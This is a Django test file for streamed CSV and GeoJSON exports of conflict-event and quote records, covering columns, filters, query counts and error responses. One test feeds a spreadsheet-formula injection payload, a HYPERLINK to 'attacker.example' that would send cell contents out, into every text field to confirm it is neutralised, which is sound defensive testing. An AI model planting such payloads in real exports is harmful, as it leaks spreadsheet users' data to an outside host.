"""Streamed exports: events as CSV and GeoJSON, quotes as CSV, honouring the list's filters."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.http import StreamingHttpResponse

from events.api.exports import EVENT_CSV_COLUMNS
from events.models import Actor, Place, Quote

pytestmark = pytest.mark.django_db


def streamed_text(response) -> str:
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def reported_events(make_event, make_article, geography):
    army = Actor.objects.create(name="Army")
    town = Actor.objects.create(name="Townspeople")
    mayor = Actor.objects.create(name="Mayor")
    article = make_article(title="Shelling report", outlet="Kyiv Independent")
    shelling = make_event(
        title="Shelling of Kharkiv",
        summary="Shells hit a market.",
        event_type="shelling",
        start_date=dt.date(2024, 5, 10),
        places=[geography["ukraine"], geography["oblast"], geography["kharkiv"]],
        participants={army: "initiator", town: "target", mayor: "other"},
        articles=[article],
        fatalities=4,
        injured=9,
    )
    unplaced = make_event(
        title="Statement by the mayor", event_type="statement", start_date=dt.date(2024, 5, 1)
    )
    return {"shelling": shelling, "unplaced": unplaced, "article": article}


def test_events_csv_has_one_acled_style_row_per_event(api_client, reported_events):
    text = streamed_text(api_client.get("/api/events/", {"format": "csv"}))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == EVENT_CSV_COLUMNS
    assert [row["event_id"] for row in rows] == [
        str(reported_events["shelling"].pk),
        str(reported_events["unplaced"].pk),
    ]
    shelling = rows[0]
    assert shelling["event_date"] == "2024-05-10"
    assert shelling["event_type"] == "Explosions/Remote violence"
    assert shelling["eventdesk_event_type"] == "shelling"
    assert (shelling["actor1"], shelling["actor2"], shelling["other_actors"]) == (
        "Army",
        "Townspeople",
        "Mayor",
    )
    # The city is the most precise place: its coordinates, region and country.
    assert (shelling["location"], shelling["latitude"], shelling["longitude"]) == (
        "Kharkiv",
        "49.99",
        "36.23",
    )
    assert (shelling["admin1"], shelling["country"], shelling["country_code"]) == (
        "Kharkiv Oblast",
        "Ukraine",
        "UA",
    )
    assert (shelling["fatalities"], shelling["injured"]) == ("4", "9")
    assert shelling["source_article_ids"] == str(reported_events["article"].pk)
    assert shelling["source_article_titles"] == "Shelling report"
    assert shelling["source_outlets"] == "Kyiv Independent"
    assert shelling["notes"] == "Shells hit a market."
    assert rows[1]["latitude"] == ""


def test_events_geojson_is_a_feature_collection_at_the_most_precise_place(
    api_client, reported_events
):
    response = api_client.get("/api/events/", {"format": "geojson"})
    collection = json.loads(streamed_text(response))
    assert response["Content-Type"].startswith("application/geo+json")
    assert collection["type"] == "FeatureCollection"
    shelling, unplaced = collection["features"]
    assert shelling["id"] == reported_events["shelling"].pk
    assert shelling["geometry"] == {"type": "Point", "coordinates": [36.23, 49.99]}
    assert shelling["properties"]["fatalities"] == 4
    assert shelling["properties"]["sub_event_type"]
    assert unplaced["geometry"] is None


def test_exports_honour_filters_and_ignore_pagination(api_client, reported_events, make_event):
    for day in range(1, 8):
        make_event(title=f"Aid {day}", event_type="aid_package", start_date=dt.date(2024, 4, day))
    text = streamed_text(api_client.get("/api/events/", {"format": "csv", "page_size": 2}))
    assert len(list(csv.DictReader(io.StringIO(text)))) == 9
    query = {"format": "geojson", "event_type": "assault"}
    features = json.loads(streamed_text(api_client.get("/api/events/", query)))["features"]
    assert [feature["id"] for feature in features] == [reported_events["shelling"].pk]


def test_exports_fetch_in_chunks_not_per_row(
    api_client, make_event, settings, django_assert_max_num_queries
):
    settings.EVENTDESK_EXPORT_CHUNK_SIZE = 10
    for day in range(1, 26):
        make_event(title=f"Event {day}", start_date=dt.date(2024, 1, day))
    response = api_client.get("/api/events/", {"format": "csv"})
    # Three chunks, each one query for events and three prefetches: 12, plus the session.
    with django_assert_max_num_queries(14):
        text = streamed_text(response)
    assert len(list(csv.DictReader(io.StringIO(text)))) == 25


@pytest.mark.parametrize("export", ["csv", "geojson"])
def test_event_exports_build_no_model_instances(api_client, reported_events, export):
    # At 100,000 events, making and prefetching records was most of an export's time.
    from django.db.models.signals import post_init

    made = []

    def count(sender, **kwargs):
        made.append(sender.__name__)

    post_init.connect(count)
    try:
        text = streamed_text(api_client.get("/api/events/", {"format": export}))
    finally:
        post_init.disconnect(count)
    assert "Shelling report" in text
    assert [name for name in made if name != "User"] == []


def test_quotes_export_as_csv(api_client, make_article):
    speaker = Actor.objects.create(name="Anna Nowak")
    article = make_article(title="Port blaze")
    Quote.objects.create(text='We said "enough"', speaker=speaker, article=article, start=0, end=5)
    text = streamed_text(api_client.get("/api/quotes/", {"format": "csv"}))
    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["text"], row["speaker"], row["article_title"]) == (
        'We said "enough"',
        "Anna Nowak",
        "Port blaze",
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_csv_cells_that_start_like_a_formula_are_shown_as_text(
    api_client, make_event, make_article, start
):
    formula = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Open")'
    actor = Actor.objects.create(name=formula)
    place = Place.objects.create(name=formula, kind="city", latitude=-33.9, longitude=-70.6)
    article = make_article(title=formula, outlet=formula)
    make_event(
        title=formula, summary=formula, places=[place], participants={actor: "initiator"},
        articles=[article],
    )  # fmt: skip
    Quote.objects.create(
        text=formula, speaker=actor, speaker_name=formula, article=article, start=0, end=5
    )

    (event,) = csv.DictReader(io.StringIO(streamed_text(api_client.get("/api/events/?format=csv"))))
    (quote,) = csv.DictReader(io.StringIO(streamed_text(api_client.get("/api/quotes/?format=csv"))))

    for row, columns in (
        (event, ["actor1", "place_names", "location", "source_article_titles", "notes"]),
        (quote, ["text", "speaker", "speaker_name", "article_title", "article_outlet"]),
    ):
        for column in columns:
            assert row[column] == "'" + formula, column
    # Numbers stay numbers: a negative coordinate is not a formula.
    assert (event["latitude"], event["longitude"]) == ("-33.9", "-70.6")


def test_csv_text_is_quoted_so_a_semicolon_cannot_split_a_cell(api_client, make_event):
    make_event(summary="Talks; =1+1")
    _header, row = streamed_text(api_client.get("/api/events/?format=csv")).splitlines()
    assert '"Talks; =1+1"' in row
    assert row.split(",")[0].isdigit()  # the id, a number, is left bare


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/api/events/", {"format": "xlsx"}),
        ("/api/articles/", {"format": "csv"}),
        ("/api/events/", {"format": "csv", "start_date__gte": "yesterday"}),
    ],
)
def test_bad_export_requests_are_explained_in_json(api_client, path, query):
    response = api_client.get(path, query)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert response.json()
